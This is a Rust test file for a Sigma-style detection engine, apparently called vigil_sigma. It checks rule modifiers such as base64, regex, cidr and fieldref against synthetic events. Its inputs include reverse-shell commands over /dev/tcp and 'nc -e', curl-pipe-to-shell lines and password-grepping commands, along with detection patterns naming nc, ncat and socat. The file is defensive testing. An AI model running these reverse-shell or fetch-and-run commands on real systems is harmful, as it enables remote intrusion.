//! Every value modifier, end to end: rule text → mapping → compiled set → events.

use std::collections::HashMap;

use base64::Engine as _;
use vigil_sigma::OwnedEvent;

use crate::support::*;

#[test]
fn plain_values_are_case_insensitive_exact_matches_with_wildcards() {
    let s = proc_set("  sel:\n    Image: /usr/bin/BASH\n  condition: sel");
    assert!(hit(&s, &exec("/usr/bin/bash", "bash")));
    assert!(hit(&s, &exec("/USR/BIN/BASH", "bash")));
    assert!(!hit(&s, &exec("/usr/bin/bash5", "bash")));
    let s = proc_set("  sel:\n    Image: '/usr/*/ba?h'\n  condition: sel");
    assert!(hit(&s, &exec("/usr/local/bin/bash", "")));
    assert!(!hit(&s, &exec("/usr/bin/zsh", "")));
    let s = proc_set("  sel:\n    CommandLine: 'echo \\*'\n  condition: sel");
    assert!(hit(&s, &exec("/bin/echo", "echo *")));
    assert!(!hit(&s, &exec("/bin/echo", "echo x")));
}

#[test]
fn contains_startswith_endswith() {
    let s = proc_set("  sel:\n    CommandLine|contains: /dev/tcp/\n  condition: sel");
    assert!(hit(
        &s,
        &exec("/bin/bash", "bash -i >& /DEV/TCP/1.2.3.4/9 0>&1")
    ));
    assert!(!hit(&s, &exec("/bin/bash", "bash -i")));
    let s = proc_set("  sel:\n    Image|startswith: /tmp/\n  condition: sel");
    assert!(hit(&s, &exec("/tmp/x", "")));
    assert!(!hit(&s, &exec("/var/tmp/x", "")));
    let s = proc_set("  sel:\n    Image|endswith:\n      - /nc\n      - /ncat\n  condition: sel");
    assert!(hit(&s, &exec("/usr/bin/ncat", "")));
    assert!(hit(&s, &exec("/bin/nc", "")));
    assert!(!hit(&s, &exec("/bin/nc.openbsd", "")));
}

#[test]
fn all_turns_the_value_list_into_an_and() {
    let s = proc_set(
        "  sel:\n    CommandLine|contains|all:\n      - ' -t '\n      - nat\n  condition: sel",
    );
    assert!(hit(&s, &exec("/sbin/iptables", "iptables -t nat -A x")));
    assert!(!hit(&s, &exec("/sbin/iptables", "iptables -t filter")));
}

#[test]
fn cased_is_case_sensitive() {
    let s = proc_set("  sel:\n    CommandLine|contains|cased: SECRET\n  condition: sel");
    assert!(hit(&s, &exec("/bin/x", "x SECRET")));
    assert!(!hit(&s, &exec("/bin/x", "x secret")));
}

#[test]
fn regex_and_its_flags() {
    let s = proc_set("  sel:\n    CommandLine|re: 'curl .*\\|\\s*(ba)?sh'\n  condition: sel");
    assert!(hit(&s, &exec("/bin/bash", "curl http://x | sh")));
    assert!(
        !hit(&s, &exec("/bin/bash", "CURL http://x | sh")),
        "re is case-sensitive"
    );
    let s = proc_set("  sel:\n    CommandLine|re|i: 'curl .*\\|\\s*(ba)?sh'\n  condition: sel");
    assert!(hit(&s, &exec("/bin/bash", "CURL http://x | SH")));
    let s = proc_set("  sel:\n    CommandLine|re|m: '^second$'\n  condition: sel");
    assert!(hit(&s, &exec("/bin/x", "first\nsecond\nthird")));
    let s = proc_set("  sel:\n    CommandLine|re: 'a.b'\n  condition: sel");
    assert!(!hit(&s, &exec("/bin/x", "a\nb")));
    let s = proc_set("  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel");
    assert!(hit(&s, &exec("/bin/x", "a\nb")));
}

fn net(remote: &str, port: i64, action: &str) -> OwnedEvent {
    OwnedEvent::new("DeviceNetworkEvents", 0)
        .with("ActionType", action)
        .with("RemoteIP", remote)
        .with("RemotePort", port)
        .with("InitiatingProcessFolderPath", "/usr/bin/curl")
}

fn net_rule(det: &str) -> String {
    format!("title: n\nid: n\nlogsource: {{product: linux, category: network_connection}}\ndetection:\n{det}\n")
}

#[test]
fn cidr_matches_networks_of_both_families() {
    let s = ok(&[(
        "n.yml",
        &net_rule("  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n  condition: sel"),
    )]);
    assert!(hit(&s, &net("10.2.3.4", 80, "ConnectionSuccess")));
    assert!(hit(&s, &net("fd12::1", 80, "ConnectionSuccess")));
    assert!(!hit(&s, &net("11.2.3.4", 80, "ConnectionSuccess")));
}

#[test]
fn numeric_comparisons_on_int_columns() {
    for (m, port, want) in [
        ("lt", 1023, true),
        ("lt", 1024, false),
        ("lte", 1024, true),
        ("gt", 1025, true),
        ("gt", 1024, false),
        ("gte", 1024, true),
    ] {
        let s = ok(&[(
            "n.yml",
            &net_rule(&format!(
                "  sel:\n    DestinationPort|{m}: 1024\n  condition: sel"
            )),
        )]);
        assert_eq!(
            hit(&s, &net("1.1.1.1", port, "ConnectionSuccess")),
            want,
            "{m} {port}"
        );
    }
    // A plain number compares with the int column's value.
    let s = ok(&[(
        "n.yml",
        &net_rule("  sel:\n    DestinationPort: 4444\n  condition: sel"),
    )]);
    assert!(hit(&s, &net("1.1.1.1", 4444, "ConnectionSuccess")));
    assert!(!hit(&s, &net("1.1.1.1", 44444, "ConnectionSuccess")));
}

#[test]
fn initiated_is_decided_by_the_action_type() {
    let s = ok(&[(
        "n.yml",
        &net_rule("  sel:\n    Initiated: 'true'\n    DestinationPort: 22\n  condition: sel"),
    )]);
    assert!(hit(&s, &net("1.1.1.1", 22, "ConnectionSuccess")));
    assert!(!hit(&s, &net("1.1.1.1", 22, "InboundConnectionAccepted")));
    let s = ok(&[(
        "n.yml",
        &net_rule("  sel:\n    Initiated: false\n    DestinationPort: 22\n  condition: sel"),
    )]);
    assert!(!hit(&s, &net("1.1.1.1", 22, "ConnectionSuccess")));
    assert!(hit(&s, &net("1.1.1.1", 22, "InboundConnectionAccepted")));
}

#[test]
fn base64_and_base64offset() {
    let payload = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    let enc = base64::engine::general_purpose::STANDARD.encode(payload);
    let s = proc_set(&format!(
        "  sel:\n    CommandLine|base64: '{payload}'\n  condition: sel"
    ));
    assert!(hit(&s, &exec("/bin/base64", &enc)));
    assert!(
        !hit(&s, &exec("/bin/base64", &enc.to_lowercase())),
        "base64 is case-sensitive"
    );
    let s =
        proc_set("  sel:\n    CommandLine|base64offset|contains: '/dev/tcp/'\n  condition: sel");
    for prefix in ["", "x", "xy"] {
        let enc = base64::engine::general_purpose::STANDARD
            .encode(format!("{prefix}bash -i >& /dev/tcp/1.2.3.4/1"));
        assert!(
            hit(
                &s,
                &exec("/bin/sh", &format!("echo {enc} | base64 -d | sh"))
            ),
            "{prefix}"
        );
    }
    assert!(!hit(&s, &exec("/bin/sh", "echo aGVsbG8= | base64 -d")));
}

#[test]
fn utf16_encodings_then_base64() {
    let wide: Vec<u8> = "whoami"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let enc = base64::engine::general_purpose::STANDARD.encode(&wide);
    for m in ["utf16le", "wide"] {
        let s = proc_set(&format!(
            "  sel:\n    CommandLine|{m}|base64offset|contains: whoami\n  condition: sel"
        ));
        assert!(
            hit(&s, &exec("/usr/bin/pwsh", &format!("pwsh -enc {enc}"))),
            "{m}"
        );
    }
    let be: Vec<u8> = "whoami"
        .encode_utf16()
        .flat_map(|u| u.to_be_bytes())
        .collect();
    let enc_be = base64::engine::general_purpose::STANDARD.encode(&be);
    let s = proc_set("  sel:\n    CommandLine|utf16be|base64|contains: whoami\n  condition: sel");
    assert!(hit(&s, &exec("/x", &format!("x {enc_be} y"))));
    let mut bom = vec![0xff, 0xfe];
    bom.extend_from_slice(&wide);
    let enc_bom = base64::engine::general_purpose::STANDARD.encode(&bom);
    let s = proc_set("  sel:\n    CommandLine|utf16|base64|contains: whoami\n  condition: sel");
    assert!(hit(&s, &exec("/x", &format!("x {enc_bom}"))));
}

#[test]
fn windash_accepts_every_dash() {
    let s = proc_set("  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel");
    assert!(hit(&s, &exec("/usr/bin/find", "find . -exec sh")));
    assert!(hit(&s, &exec("/usr/bin/find", "find . /exec sh")));
    assert!(hit(&s, &exec("/usr/bin/find", "find . \u{2013}exec sh")));
    assert!(!hit(&s, &exec("/usr/bin/find", "find . +exec sh")));
}

#[test]
fn exists_and_null() {
    let s = proc_set("  sel:\n    CurrentDirectory|exists: true\n  condition: sel");
    let mut e = exec("/bin/x", "x");
    assert!(!hit(&s, &e));
    e.set_additional("cwd", "/tmp");
    assert!(hit(&s, &e));
    let s = proc_set("  sel:\n    CurrentDirectory|exists: false\n  condition: sel");
    assert!(!hit(&s, &e));
    assert!(hit(&s, &exec("/bin/x", "x")));
    let s = proc_set("  sel:\n    User: null\n  condition: sel");
    assert!(hit(&s, &exec("/bin/x", "x")));
    assert!(!hit(&s, &exec("/bin/x", "x").with("AccountName", "root")));
    let s = proc_set("  sel:\n    User: ''\n  condition: sel");
    assert!(hit(&s, &exec("/bin/x", "x").with("AccountName", "")));
    assert!(!hit(&s, &exec("/bin/x", "x")));
}

#[test]
fn fieldref_compares_two_fields() {
    let s = proc_set("  sel:\n    User|fieldref: ParentUser\n  condition: sel");
    let same = exec("/bin/x", "x")
        .with("AccountName", "Root")
        .with("InitiatingProcessAccountName", "root");
    let diff = exec("/bin/x", "x")
        .with("AccountName", "www-data")
        .with("InitiatingProcessAccountName", "root");
    assert!(hit(&s, &same));
    assert!(!hit(&s, &diff));
    let s = proc_set("  sel:\n    User|fieldref|neq: ParentUser\n  condition: sel");
    assert!(!hit(&s, &same));
    assert!(hit(&s, &diff));
    let s = proc_set("  sel:\n    CommandLine|fieldref|contains: Image\n  condition: sel");
    assert!(hit(&s, &exec("/bin/ls", "/bin/ls -l")));
    assert!(!hit(&s, &exec("/bin/ls", "ls -l")));
}

#[test]
fn neq_excludes_values_but_needs_the_field() {
    let s = proc_set("  sel:\n    User|neq:\n      - root\n      - daemon\n  condition: sel");
    assert!(hit(&s, &exec("/bin/x", "x").with("AccountName", "bob")));
    assert!(!hit(&s, &exec("/bin/x", "x").with("AccountName", "ROOT")));
    assert!(!hit(&s, &exec("/bin/x", "x")));
}

#[test]
fn expand_uses_the_placeholders_given_at_load() {
    let rule = proc_rule("r", "  sel:\n    User|expand: '%admins%'\n  condition: sel");
    let mut ph = HashMap::new();
    ph.insert(
        "admins".to_string(),
        vec!["root".to_string(), "adm_*".to_string()],
    );
    let (s, rep) = load_with(&[("r.yml", &rule)], ph);
    assert_eq!(rep.files[0].reason, "");
    assert!(hit(&s, &exec("/x", "x").with("AccountName", "adm_bob")));
    assert!(hit(&s, &exec("/x", "x").with("AccountName", "root")));
    assert!(!hit(&s, &exec("/x", "x").with("AccountName", "bob")));
    let (status, reason) = outcome(&rule);
    assert_eq!(status, vigil_sigma::Status::Error);
    assert_eq!(
        reason,
        "search `sel`: field `User|expand`: unknown placeholder `%admins%`"
    );
}

#[test]
fn hashes_field_is_built_from_hash_columns() {
    let s = proc_set("  sel:\n    Hashes|contains: 'SHA256=ABCDEF'\n  condition: sel");
    let e = exec("/x", "x").with("SHA256", "abcdef01").with("MD5", "00");
    assert!(hit(&s, &e));
    assert!(!hit(&s, &exec("/x", "x").with("SHA256", "ffff")));
    let s = proc_set("  sel:\n    sha256: ABCDEF01\n  condition: sel");
    assert!(hit(&s, &e));
}

#[test]
fn keywords_search_the_mapped_columns() {
    let s = proc_set("  kw:\n    - 'nc -e'\n    - socat\n  condition: kw");
    assert!(hit(&s, &exec("/bin/nc", "nc -e /bin/sh 1.2.3.4 1")));
    assert!(hit(&s, &exec("/usr/bin/socat", "x")));
    assert!(!hit(&s, &exec("/bin/ls", "ls")));
    let s = proc_set("  kw:\n    '|all':\n      - grep\n      - password\n  condition: kw");
    assert!(hit(&s, &exec("/bin/grep", "grep -r password /etc")));
    assert!(!hit(&s, &exec("/bin/grep", "grep -r user /etc")));
}

/// Literals too short for the prefilter's automaton (one character) are checked at the ends
/// of the field: same answers as the naive evaluation (which `raised` compares) on case,
/// Unicode, empty, null and absent values, regexes anchored at the start, and `cased`.
#[test]
fn short_anchored_literals_agree_with_the_naive_evaluation() {
    let s = proc_set(
        r#"  sel_end:
    Image|endswith: ' '
  sel_re:
    CommandLine|re: '^\[[^\]]+\]\s*$'
  sel_exact:
    Image: 'x'
  sel_start:
    CommandLine|startswith|cased: 'Z'
  sel_uni:
    Image|endswith: 'é'
  condition: 1 of sel_*"#,
    );
    let null = OwnedEvent::new("DeviceProcessEvents", 0)
        .with("ActionType", "ProcessCreated")
        .with("FolderPath", vigil_sigma::Value::Null)
        .with("ProcessCommandLine", vigil_sigma::Value::Null);
    let absent = OwnedEvent::new("DeviceProcessEvents", 0).with("ActionType", "ProcessCreated");
    let cases: Vec<(OwnedEvent, bool)> = vec![
        (exec("/usr/bin/bash ", "bash"), true),
        (exec("/usr/bin/bash", "bash "), false),
        (exec(" /usr/bin/bash", "bash"), false),
        (exec("/usr/bin/bash", "[kworker/0:1]  "), true),
        (exec("/usr/bin/bash", " [kworker/0:1]"), false),
        (exec("/usr/bin/bash", "[kworker/0:1] x"), false),
        (exec("X", ""), true),
        (exec("x", "y"), true),
        (exec("xx", "y"), false),
        (exec("", ""), false),
        (exec("/bin/sh", "Zap"), true),
        (exec("/bin/sh", "zap"), false),
        (exec("/bin/caf\u{c9}", "a"), true),
        (exec("/bin/cafe", "a"), false),
        (exec("/bin/\u{130}", "a"), false),
        (null, false),
        (absent, false),
    ];
    for (e, want) in cases {
        let got = !raised(&s, std::slice::from_ref(&e))[0].is_empty();
        assert_eq!(got, want, "{e:?}");
    }
    // The rule is behind the prefilter: no literal, no evaluation.
    assert!(s.unguarded().is_empty());
}

/// The evaluator's field cache borrows the event's text and copies only what it must (numbers
/// formatted, text with uppercase or non-ASCII characters lowercased): one evaluator over a
/// sequence of events must give each event its own answer, whichever event came before.
#[test]
fn field_cache_is_per_event() {
    let s = proc_set(
        r#"  sel_img:
    Image|endswith: '/BASH'
  sel_cmd:
    CommandLine|contains: 'Sécret'
  sel_pid:
    ProcessId|startswith: '42'
  sel_cwd:
    CurrentDirectory: '/TMP/X'
  condition: 1 of sel_*"#,
    );
    let with = |e: OwnedEvent, pid: i64, cwd: &str| {
        let mut e = e.with("ProcessId", pid);
        e.set_additional("cwd", cwd);
        e
    };
    let cases: Vec<(OwnedEvent, bool)> = vec![
        (exec("/usr/bin/BASH", "a"), true),
        (exec("/usr/bin/bash", "a"), true),
        (exec("/usr/bin/dash", "a"), false),
        (exec("/usr/bin/dash", "x SÉCRET y"), true),
        (exec("/usr/bin/dash", "x secret y"), false),
        (exec("/usr/bin/dash", "x sécret y"), true),
        (with(exec("/bin/sh", "a"), 4200, "/"), true),
        (with(exec("/bin/sh", "a"), 1042, "/"), false),
        (with(exec("/bin/sh", "a"), 1, "/tmp/x"), true),
        (with(exec("/bin/sh", "a"), 1, "/Tmp/X"), true),
        (with(exec("/bin/sh", "a"), 1, "/tmp/xy"), false),
        (exec("/bin/sh", "a"), false),
        (with(exec("/USR/BIN/BASH", "SÉCRET"), 42, "/TMP/X"), true),
        (exec("/bin/sh", "b"), false),
    ];
    let events: Vec<OwnedEvent> = cases.iter().map(|c| c.0.clone()).collect();
    // One evaluator for all (and the naive evaluation compared on each).
    let got = raised(&s, &events);
    for ((e, want), got) in cases.iter().zip(got) {
        assert_eq!(!got.is_empty(), *want, "{e:?}");
    }
}

/// A regex is not run on a text shorter than its shortest match (in bytes), with the same
/// answers as running it.
#[test]
fn regexes_skip_texts_shorter_than_a_match() {
    let s = proc_set("  sel:\n    CommandLine|re: '^[^/]{10,}$'\n  condition: sel");
    for (cmd, want) in [
        ("aaaaaaaaaa", true),
        ("aaaaaaaaa", false),
        ("ééééé", false),
        ("éééééééééé", true),
        ("aaaaa/aaaaa", false),
        ("", false),
    ] {
        assert_eq!(hit(&s, &exec("/bin/x", cmd)), want, "{cmd:?}");
    }
}

/// An item is skipped unless the event holds a literal of each set its value requires (every
/// part of a regex, every value of `|all`); answers are those of the naive evaluation, which
/// has no such gates.
#[test]
fn items_are_gated_on_every_required_literal_set() {
    let s = proc_set(
        r#"  sel_find:
    CommandLine|re: '\bfind\s.*-exec\s+(ba|z)?sh'
  sel_all:
    CommandLine|contains|all:
      - 'abc'
      - 'def'
  sel_img:
    Image|endswith: '/x'
    CommandLine|re: '(?i)curl.*\|\s*sh'
  condition: 1 of sel_*"#,
    );
    let cases = [
        ("/bin/find", "find . -exec sh {} ;", true),
        ("/bin/find", "find . -exec zsh", true),
        ("/bin/find", "find . -name sh", false),
        ("/bin/find", "ls -exec sh", false),
        ("/bin/find", "FIND . -EXEC sh", false),
        ("/bin/a", "abc def", true),
        ("/bin/a", "abcdef", true),
        ("/bin/a", "ABC x DEF", true),
        ("/bin/a", "abc", false),
        ("/bin/a", "def", false),
        ("/usr/x", "CURL http://a | SH", true),
        ("/usr/x", "curl http://a", false),
        ("/usr/x", "wget | sh", false),
        ("/usr/y", "curl http://a | sh", false),
    ];
    for (img, cmd, want) in cases {
        assert_eq!(hit(&s, &exec(img, cmd)), want, "{img} {cmd:?}");
    }
}

/// The gates of a target's items are checked before any field is read: through AND, OR,
/// "N of" and NOT, a closed gate decides only what it implies; answers are those of the naive
/// evaluation, which has no gates.
#[test]
fn gates_checked_first_decide_only_what_they_imply() {
    let two_of = proc_set(
        r#"  sel_a:
    CommandLine|re: 'alpha\d+beta'
  sel_b:
    CommandLine|contains|all:
      - 'gamma'
      - 'delta'
  sel_c:
    Image|endswith: '/z'
  filter:
    CommandLine|re: 'omega\s+x'
  condition: 2 of sel_* and not filter"#,
    );
    let cases = [
        ("/bin/z", "alpha1beta", true),
        ("/bin/z", "gamma delta", true),
        ("/bin/y", "alpha1beta gamma delta", true),
        ("/bin/y", "alpha1beta gamma", false),
        ("/bin/y", "alphabeta gamma delta", false),
        ("/bin/z", "alpha1beta omega  x", false),
        ("/bin/z", "alpha1beta omega", true),
        ("/bin/z", "omega x", false),
        ("/bin/z", "", false),
    ];
    for (img, cmd, want) in cases {
        assert_eq!(hit(&two_of, &exec(img, cmd)), want, "{img} {cmd:?}");
    }
    let nested = proc_set(
        r#"  sel_c:
    Image|endswith: '/z'
  sel_a:
    CommandLine|re: 'alpha\d+beta'
  sel_b:
    CommandLine|contains|all:
      - 'gamma'
      - 'delta'
  condition: sel_c and (sel_a or sel_b)"#,
    );
    for (img, cmd, want) in [
        ("/bin/z", "nothing", false),
        ("/bin/z", "alpha2beta", true),
        ("/bin/z", "gamma x delta", true),
        ("/bin/z", "gamma", false),
        ("/bin/y", "alpha2beta", false),
    ] {
        assert_eq!(hit(&nested, &exec(img, cmd)), want, "{img} {cmd:?}");
    }
}
